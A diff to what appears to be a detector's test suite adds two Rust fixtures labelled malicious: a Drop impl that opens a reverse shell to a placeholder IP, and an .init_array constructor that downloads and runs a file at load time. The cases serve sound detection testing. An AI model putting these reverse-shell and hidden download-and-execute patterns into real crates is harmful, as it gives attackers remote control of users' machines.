@@ -170,6 +170,45 @@ const MALICIOUS: Case[] = [
     }),
   },
   {
+    name: 'impl Drop spawns a const shell path with Stdio::from_raw_fd of a socket',
+    rule: 'code.reverse-shell',
+    files: lib('drop-shell', {
+      'src/lib.rs': src(
+        'use std::os::unix::io::{AsRawFd, FromRawFd};',
+        'const LOGIN: &str = "/bin/sh";',
+        'pub struct Session;',
+        'impl Drop for Session {',
+        '    fn drop(&mut self) {',
+        '        let Ok(sock) = std::net::TcpStream::connect("192.0.2.8:443") else { return };',
+        '        let fd = sock.as_raw_fd();',
+        '        let _ = std::process::Command::new(LOGIN).stdin(unsafe { std::process::Stdio::from_raw_fd(fd) }).spawn();',
+        '    }',
+        '}',
+      ),
+    }),
+  },
+  {
+    name: 'an .init_array constructor downloads into a buffer with read_to_end and runs the written file',
+    rule: 'flow.download-exec',
+    files: lib('early-init', {
+      'src/lib.rs': src(
+        '#[used]',
+        '#[link_section = ".init_array"]',
+        'static EARLY: extern "C" fn() = early;',
+        'extern "C" fn early() { refresh(); }',
+        'fn refresh() {',
+        '    let out = std::env::temp_dir().join("refresh-FAKE-DO-NOT-RUN");',
+        '    let Ok(resp) = ureq::get("http://203.0.113.50/u").call() else { return };',
+        '    let mut buf = Vec::new();',
+        '    let _ = std::io::Read::read_to_end(&mut resp.into_reader(), &mut buf);',
+        '    let _ = std::fs::write(&out, &buf);',
+        '    let _ = std::process::Command::new(&out).spawn();',
+        '}',
+        'pub fn add(a: i32, b: i32) -> i32 { a + b }',
+      ),
+    }),
+  },
+  {
     name: 'an attribute macro writes a pre-push hook that pipes a download into bash',
     rule: 'code.vcs-hook',
     files: {
